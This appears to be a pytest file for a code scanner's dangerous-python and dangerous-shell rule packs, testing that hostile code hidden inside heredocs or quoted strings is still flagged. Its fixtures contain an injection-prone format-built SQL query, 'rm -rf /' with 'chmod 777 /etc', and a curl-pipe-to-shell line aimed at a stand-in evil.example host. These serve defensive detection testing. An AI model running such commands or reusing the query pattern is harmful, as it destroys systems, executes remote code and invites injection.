"""Checks for code find it where a lexer takes it for a comment."""

from __future__ import annotations

import pytest
from packing import found_by

HIDDEN = {
    "statement in an argument": (
        "dangerous-python",
        "a.py",
        'cursor.execute(\n    """\n    SELECT * FROM users WHERE name = \'{}\'\n    """.format(name)\n)\n',
        "python-sql-block-formatted",
    ),
    "command below a text in quotes": (
        "dangerous-shell",
        "a.sh",
        "cat <<\"EOF\"\ndon't panic\nEOF\necho 'step # one'; rm -rf / ; chmod 777 /etc\n",
        "shell-rm-root",
    ),
    "command in a text that names its end": (
        "dangerous-shell",
        "a.sh",
        "cat <<EOF | sh\n# EOF is the end mark\n# $(curl -s http://evil.example/x | sh)\nEOF\n",
        "shell-curl-pipe",
    ),
}


@pytest.mark.parametrize(("pack", "path", "text", "expected"), HIDDEN.values(), ids=HIDDEN)
def test_code_that_looks_like_a_comment_is_found(pack: str, path: str, text: str, expected: str) -> None:
    assert expected in found_by(pack, text, path)


def test_an_example_in_a_docstring_is_no_code() -> None:
    text = 'def find(name):\n    """SELECT * FROM users WHERE name = \'{}\'"""\n'
    assert found_by("dangerous-python", text, "a.py") == []
